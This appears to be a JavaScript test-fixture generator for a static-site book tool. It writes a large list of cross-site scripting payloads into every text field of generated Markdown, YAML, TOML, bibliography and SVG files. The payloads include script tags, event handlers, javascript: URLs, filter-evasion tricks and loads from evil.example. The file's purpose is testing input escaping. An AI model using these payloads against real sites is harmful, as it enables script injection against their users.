// Hostile text in every field that can contain text: the book of an attacker.

import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

/** Texts that would run, or fetch from another site, if a page used them as markup. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src=//evil.example/pixel.png>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=//evil.example/x.swf>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example/x.css"; * { background: url(//evil.example/y.png) }</style>',
  '<p style="background:url(//evil.example/z.png)">x</p>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)" autofocus tabindex=1 onfocus=alert(1)>x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a id=x name=whosaid href=x ping=//evil.example/>x</a>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<table><caption><img src=x onerror=alert(1)></caption></table>',
  '<kbd onclick=alert(1) onmouseover=alert(1)>x</kbd>',
  '<img src="x` onerror=alert(1) `">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<im<b>g src=x onerror=alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<x onclick=alert(1) style=position:fixed;inset:0>x</x>',
  '<slot onslotchange=alert(1)>x</slot>',
  '<button popovertarget=x onclick=alert(1)>x</button>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '{{ "<img src=x onerror=alert(1)>" | safe }}',
  '{% raw %}<img src=x onerror=alert(1)>{% endraw %}',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '![x](//evil.example/i.png)',
  '<javascript:alert(1)>',
  '[x]{onclick=alert(1) onmouseover=alert(1) style=x}',
  '# x {#y onmouseover=alert(1) style=x}',
  'javascript:alert(1)',
  'vbscript:msgbox(1)',
  '" onmouseover=alert(1) x="',
  "' onmouseover=alert(1) x='",
  '" autofocus onfocus=alert(1) tabindex=1 "',
  '`onmouseover=alert(1)`',
  'x onmouseover=alert(1)',
  '${alert(1)}',
  '\u2028alert(1)//\u2029',
  '\u202eonload=alert(1)\u202c<svg/onload=alert(1)>',
  '\ufeff<script>alert(1)</script>',
];

/** Texts that end the context of a payload if it is not escaped. */
const ENDS = ['', '">', "'>", '-->', '</title></script></style></textarea></noscript>', ']]>', '"}]}</script>', '`</code></pre>'];

/** Every end before every payload. */
export const PAYLOADS = VECTORS.flatMap((vector) => ENDS.map((end) => end + vector));

/** A payload as a value of YAML and TOML. */
const quoted = (text) => JSON.stringify(text).replace(/[\u007f-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
/** A payload for fields that end with the line or at these characters. */
const without = (text, gone) => [...text].filter((c) => !gone.includes(c)).join('');

function briefing(text, n) {
  const line = without(text, '\n\r\u2028\u2029');
  const value = quoted(text);
  const attribute = `'${without(line, "'\"\\")}'`;
  return `---
title: ${value}
subtitle: ${value}
summary: ${value}
date: 2021-07-19
as-of: ${value}
authors: [${value}]
tags: [${value}]
aliases: [${quoted(`old/${n}/${without(line, '/\\?#%<>:"|*')}.html`)}, ${value}]
question: claim-${n}
corrections: [{on: 2021-07-20, text: ${value}}]
defaults: {by: ${value}}
tlp: ${value}
extra: {a: ${value}, b: {c: [${value}]}}
x-own: ${value}
---

# ${line} {#${without(line, ' {}')} .${without(line, ' {}')} data-x=${attribute} onclick=${attribute}}

## ${line}

${line}

Words [marked ${without(line, '[]')}](claim:claim-${n} "by=actor-${n} src=source-${n} on=2021-07-19 conf=high text=${attribute} x-note=${attribute} -- ${without(line, '"')}") here.
[${without(line, '[]')}](denies:claim-${n} "by=actor-0 voice=actor-1 on=2021-07-20 joint=${attribute} via=${attribute} quote") [@source-${n}, ${without(line, '[];')}].
[${without(line, '[]')}](event:event-${n} "on=2021-01-05 who=actor-${n} text=${attribute}").
[spanned]{.claim #other-${n} by=actor-${n} text=${attribute} onclick=${attribute}} [see @source-${n}; @${without(line, ' []')}].

[[actor-${n}|${without(line, '[]|')}]] [[${without(line, '[]|')}]] ![[${without(line, '[]|')}]] [[actor-${n}#${without(line, '[]|')}]]

[link](<${without(line, '<>')}> "${without(line, '"')}") [link](https://example.org/${encodeURI(without(line, '()'))} "${without(line, '"')}") <https://example.org/${without(line, '<> ')}> <${without(line, '<> ')}@example.org>
![${without(line, '[]')}](map.svg "${without(line, '"')}") ![alt](<${without(line, '<>')}>) ![${without(line, '[]')}](https://evil.example/${encodeURI(without(line, '()'))})

\`${without(line, '`')}\` \`\`\` ${line} \`\`\`

\`\`\`${without(line, '`')}
${text}
\`\`\`

\`\`\`html
${text}
\`\`\`

> ${line}
>
> — [${without(line, '[]')}](claim:said-${n} "by=actor-${n} quote") [@source-${n}]

> [!NOTE] ${line}
> ${line}

| ${without(line, '|')} | b |
|---|---|
| ${without(line, '|')} | [${without(line, '|[]')}](confirms:claim-${n} "by=actor-2") |

- [ ] ${line}
- ${line}
  : ${line}

${without(line, '[]')}[^${without(line, '[] ')}] note[^n]

[^n]: ${line}
[^${without(line, '[] ')}]: ${line}

[ref]: ${without(line, ' ')} "${without(line, '"')}"

[[harbor:there-actor-${n}]] [[harbor:there-claim-${n}|${without(line, '[]|')}]] [[harbor:there-source-${n}]] [[harbor:there-page-${n}]]
> [!${without(line, '[]')}]
> ${line}

## ${line} {by=actor-${n} x-own=${attribute}}

[in a section](questions:claim-${n} "on=2021-07-21 asked=2021-07-01 by-date=2021-07-02 conf=low").
[passed on](reports:claim-${n} "by=actor-0 said-by=actor-${n} via=${attribute} at=${attribute}") [-@source-${n}, ${without(line, '[];')}].

[ref] {{#include ${without(line, '{}')}}} {{#title ${without(line, '{}')}}}

<kbd title=${quoted(line)} class=${quoted(line)} id=${quoted(line)}>k</kbd> <a href=${quoted(line)} title=${quoted(line)}>a</a> <img src=${quoted(line)} alt=${quoted(line)}>

<div class="${without(line, '"')}">

${line}

</div>

<div ${line}>
`;
}

const actor = (text, n) => `---
name: ${quoted(`${text} ${n}`)}
kind: person
aliases: [${quoted(`${n} ${text}`)}]
named-by: [${quoted(`${n} alias ${text} = actor-0 @source-0`)}]
summary: ${quoted(text)}
part-of: ${n > 0 ? 'actor-0' : quoted(text)}
country: ${quoted(text)}
status: suspected
status-src: [source-${n}]
wikidata: ${quoted(text)}
attack-id: ${quoted(text)}
stix-id: ${quoted(text)}
url: ${n % 2 ? quoted(`https://example.org/${text}`) : quoted(text)}
image: ${n % 2 ? 'map.svg' : quoted(text)}
extra: {a: ${quoted(text)}}
---
${text}
`;

const claim = (text, n) => `---
text: ${quoted(`${text} ${n}`)}
kind: ${quoted(text)}
against: [actor-${(n + 1) % 3}]
relation: [actor-${n}, ${quoted(text)}, actor-0]
tags: [${quoted(text)}]
extra: {a: ${quoted(text)}}
---
${text}
`;

const source = (text, n) => `---
title: ${quoted(text)}
author: [actor-${n}, ${quoted(text)}]
publisher: ${quoted(text)}
date: 2021-07-19
url: ${n % 2 ? quoted(`https://example.org/${text}`) : quoted(text)}
archive: ${n % 2 ? quoted(`https://example.org/?a=${text}`) : quoted(text)}
retrieved: ${quoted(text)}
sha256: ${quoted(text)}
type: ${quoted(text)}
language: ${quoted(text)}
reliability: ${quoted(text)}
extra: {a: ${quoted(text)}}
---
${text}
`;

/** The text between braces in a `.bib` file, which must match. */
const bib = (text, n) => {
  const value = without(text, '{}\\$%"@');
  return `@online{bib${n}, title={${value}}, author={${value}}, publisher={${value}}, url={https://example.org/${value}}, langid={${value}}, date={2021}}\n`;
};

const csl = (text, n) => ({ id: `csl${n}`, type: text, title: text, author: [{ literal: text }, { family: text, given: text }], publisher: text, URL: n % 2 ? `https://example.org/${text}` : text, language: text, issued: { raw: text } });

const yml = (text, n) => `yml${n}: {type: ${quoted(text)}, title: ${quoted(text)}, author: [${quoted(text)}], publisher: ${quoted(text)}, url: ${quoted(`https://example.org/${text}`)}, language: ${quoted(text)}}\n`;

/** Every mistake is allowed, so that the book is published with all its mistakes. */
const LINTS = [...Array.from({ length: 35 }, (_, n) => n + 1), 182, 185].map((n) => `WS${String(n).padStart(3, '0')} = "allow"`).join('\n');

/** The address of the book: it has feeds, frames, cards and a sitemap only with an address. */
export const SITE = 'https://desk.example/';

/** The inventory of another site, which nobody here wrote. */
const inventory = (payloads) => JSON.stringify({
  whosaid: 1,
  site: { title: payloads[0], language: payloads[0], url: payloads[0] },
  entries: payloads.flatMap((text, n) => ['actor', 'claim', 'source', 'page'].map((kind) => ({
    kind, id: `there-${kind}-${n}`, title: text, address: `${n}${without(text, '/\\\n\r\u2028\u2029\u202e\u202c\ufeff').trim()}.html`, is: text, status: text, signature: text, hash: text, wikidata: text, 'attack-id': text, 'stix-id': text, aliases: [text],
  }))),
});

/** The settings of a book, with a payload in each setting that contains text. */
const settings = (text, mode, count) => `[book]
title = ${quoted(text)}
description = ${quoted(text)}
authors = [${quoted(text)}]
language = ${quoted(text)}

[output.html]
site-url = "${SITE}"
cname = ${quoted(text)}
git-repository-url = ${quoted(`https://example.org/${encodeURIComponent(text)}`)}
edit-url-template = ${quoted(`https://example.org/${encodeURIComponent(text)}/{path}`)}

[output.html.print]
enable = ${count <= 80}

[output.html.redirect]
"/gone.html" = ${quoted(`https://example.org/${encodeURIComponent(text)}`)}

[whosaid]
tlp = "red"
raw-html = "${mode}"
bibliography = ["a.bib", "b.json", "c.yml"]
cards = ${count === 1}
exports = ["json", "csv", "graphml", "ical", "stix", "annotations"]
contact = ${quoted(`mailto:desk@example.org?subject=${encodeURIComponent(text)}`)}
footer = ${quoted(text)}
license = ${quoted(text)}
license-url = ${quoted(`https://example.org/${encodeURIComponent(text)}`)}

[whosaid.sites]
harbor = ${quoted(`https://example.org/${encodeURIComponent(text)}/`)}

[whosaid.extra]
own = ${quoted(text)}

[whosaid.lints]
${LINTS}
`;

/** An image that would run its content if it were a page. */
const IMAGE = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)"><script>alert(1)</script><image href="//evil.example/i.png"/></svg>';

/** Writes a book with these payloads into `folder`: each in every field of a briefing, an actor, a claim and sources. */
export function write(folder, payloads, mode, title) {
  const put = (path, text) => {
    const file = join(folder, path);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, text);
  };
  payloads.forEach((text, n) => {
    put(`content/b-${n}.md`, briefing(text, n));
    put(`content/actors/actor-${n}.md`, actor(text, n));
    put(`content/claims/claim-${n}.md`, claim(text, n));
    put(`content/sources/source-${n}.md`, source(text, n));
    // A text that can be a file name; a third of the payloads contain none.
    const name = without(text, '/\\\n\r\u2028\u2029\u202e\u202c\ufeff').slice(0, 100).trim();
    if (n % 4 === 0) put(`content/named/${n} ${name}.md`, `${text}\n\n![${without(text, '[]')}](../map.svg)\n`);
    if (n % 4 === 1) put(`content/named/${n} ${name}.svg`, IMAGE);
  });
  put('content/a.bib', payloads.map(bib).join(''));
  put('content/b.json', JSON.stringify(payloads.map(csl)));
  put('content/c.yml', payloads.map(yml).join(''));
  put('content/map.svg', IMAGE);
  put('sites/harbor.json', inventory(payloads));
  put('content/SUMMARY.md', `# ${without(title, '\n\r')}\n\n${payloads.map((text, n) => `- [${without(text, '[]\n\r\u2028\u2029')}](b-${n}.md)\n`).join('')}`);
  put('book.toml', settings(title, mode, payloads.length));
}
